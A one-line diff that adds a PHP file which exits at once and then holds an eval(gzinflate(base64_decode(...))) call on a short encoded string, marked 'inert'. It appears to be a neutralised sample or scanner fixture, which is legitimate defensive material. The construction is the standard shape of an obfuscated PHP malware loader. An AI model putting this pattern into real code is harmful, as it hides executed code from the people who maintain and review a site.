@@ -1,0 +1,1 @@
+<?php exit; /* inert */ eval(gzinflate(base64_decode("c0gtS8zRUIkP8A8OiVZKSU0tUIrVtAYA")));
